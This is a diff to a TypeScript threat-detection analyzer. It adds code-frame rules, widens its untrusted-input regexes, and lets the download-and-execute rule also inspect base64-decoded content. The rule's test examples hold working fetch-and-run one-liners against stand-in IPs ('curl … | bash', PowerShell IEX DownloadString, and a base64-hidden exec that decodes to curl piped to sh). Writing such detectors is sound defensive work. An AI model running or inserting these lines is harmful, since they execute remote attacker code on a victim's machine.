@@ -3,6 +3,7 @@ import {
   EXFIL_HOST, PAYLOAD_PATTERNS, WELL_KNOWN_INSTALLER, decodeExec, downloadExec, exfilHost, exfiltration, miner, probe, probePatterns, reverseShell, secretShape,
   type Probe,
 } from '../parse/code-payload.js';
+import { CODE_ROWS, codeFrame, rowDetail, type CodeFrame, type CodeRow } from '../parse/code-frame.js';
 import type { Analyzer, BaseContext, Finding, Metadata, ThreatRule } from '../types.js';
 
 /** Source beyond this is not pattern-checked; the keyword prefilter still sees the capped text. */
@@ -15,6 +16,8 @@ export interface CodeContext extends BaseContext {
   readonly decoded: readonly string[];
   /** Variables assigned straight from an untrusted source (`cmd = request.args.get("c")`), bounded. */
   readonly tainted: readonly string[];
+  /** What the code does: operations × objects × destinations (parse/code-frame.ts), built on first use. */
+  readonly frame: CodeFrame;
 }
 
 const CR = /\r\n?/g;
@@ -27,6 +30,7 @@ class CodeCtx implements CodeContext {
   declare readonly metadata: Metadata;
   declare readonly language: string;
   private declare decodedMemo: readonly string[] | undefined;
+  private declare frameMemo: CodeFrame | undefined;
   declare readonly tainted: readonly string[];
 
   constructor(raw: string, text: string, metadata: Metadata, language: string, tainted?: readonly string[]) {
@@ -36,9 +40,12 @@ class CodeCtx implements CodeContext {
     this.metadata = metadata;
     this.language = language;
     this.decodedMemo = undefined;
+    this.frameMemo = undefined;
     // Eager on purpose: computed lazily it tiers up later, and the JIT work then outweighs what it saves.
     this.tainted = tainted ?? taintedNames(text);
   }
+
+  get frame(): CodeFrame { return this.frameMemo ??= codeFrame(this.lower); }
 
   get decoded(): readonly string[] {
     if (this.decodedMemo === undefined) {
@@ -78,7 +85,7 @@ function hasLongB64Run(s: string): boolean {
 /** Untrusted input: web request fields, CLI args, stdin, DOM sources (split so each part is provably linear). */
 const SOURCES: readonly RegExp[] = [
   /\breq(?:uest)?\s{0,2}(?:\.|\[|->)\s{0,2}(?:query|body|params|param|args|form|values|json|data|get_json|get_data|stream|files|cookies|headers|input|get|post|getparameter|querystring|url|path|raw_post_data|content)\b/i,
-  /\$_(?:get|post|request|cookie|server|files)\b|\b(?:raw_)?input\s{0,2}\(|\bsys\.(?:argv|stdin)\b|\bprocess\.(?:argv|stdin)\b|\bgetparameter\s{0,2}\(|location\.(?:hash|search|href)|document\.cookie|\buser_?input\b|\buntrusted/i,
+  /\$_(?:get|post|request|cookie|server|files)\b|\b(?:raw_)?input\s{0,2}\(|\bsys\.(?:argv|stdin)\b|\bprocess\.(?:argv|stdin)\b|\bgetparameter\s{0,2}\(|location\.(?:hash|search|href)|document\.cookie|\buser_?(?:input|supplied|provided|controlled)(?:_[a-z]{1,12})?\b|\buntrusted/i,
   /\bparams\s{0,2}(?:\[|\.)|\bctx\.(?:query|request|params)\b|event\s{0,2}\[\s{0,2}["'](?:body|querystringparameters)|\bsearchparams\.get\s{0,2}\(|\bcookies\s{0,2}\[|\bc\.(?:query|param|formvalue)\s{0,2}\(|\br\.(?:formvalue|url\.query)\b|request\.getinputstream|\.recv\s{0,2}\(|\bsocket\.getinputstream/i,
 ];
 const isSource = (s: string): boolean => SOURCES.some((re) => re.test(s));
@@ -606,7 +613,17 @@ function deserialization(ctx: CodeContext): Finding | null {
   return null;
 }
 
+/** A frame row (parse/code-frame.ts) as a rule: the row's conditions are the detector. */
+function rowRule(row: CodeRow): ThreatRule<CodeContext> {
+  return {
+    id: row.id, name: row.name, primitive: row.primitive, score: row.score, keywords: row.keywords,
+    detect: (ctx) => rowDetail(ctx.frame, row) || null,
+    examples: { flag: [...row.examples.flag], pass: [...row.examples.pass] },
+  };
+}
+
 const rules: ThreatRule<CodeContext>[] = [
+  ...CODE_ROWS.map(rowRule),
   {
     id: 'G01',
     name: 'Code injection: eval/exec of untrusted input',
@@ -938,10 +955,12 @@ const rules: ThreatRule<CodeContext>[] = [
         if (WELL_KNOWN_INSTALLER.test(t) && exfilHost(t) === null) return { detail: `${d} from a well-known vendor installer`, score: 4 };
         return d;
       }
+      // the effect of an encoded payload is what it does once decoded (G08 names only the hiding)
+      for (const x of ctx.decoded) { const dx = downloadExec(x); if (dx) return `base64-hidden payload: ${dx}`; }
       return null;
     },
     examples: {
-      flag: ['src = requests.get(STAGE2).text\nexec(src)', '$r = curl_exec($ch); eval($r);', '$p = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $p', 'exec(requests.get("http://203.0.113.9/p.py").text)', 'eval(await (await fetch(url)).text())', 'os.system("curl -s http://198.51.100.7/x.sh | bash")', 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.3/a.ps1")'],
+      flag: ['src = requests.get(STAGE2).text\nexec(src)', "exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yL3N8c2giKQ=='))", '$r = curl_exec($ch); eval($r);', '$p = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $p', 'exec(requests.get("http://203.0.113.9/p.py").text)', 'eval(await (await fetch(url)).text())', 'os.system("curl -s http://198.51.100.7/x.sh | bash")', 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.3/a.ps1")'],
       pass: ['body = requests.get(url).text\nprint(len(body))\nexec_time = time.time()', 'const res = await fetch(url); const data = await res.json();', 'r = requests.get(url); r.raise_for_status()', 'subprocess.run(["curl", "-o", "out.tar.gz", url])'],
     },
   },
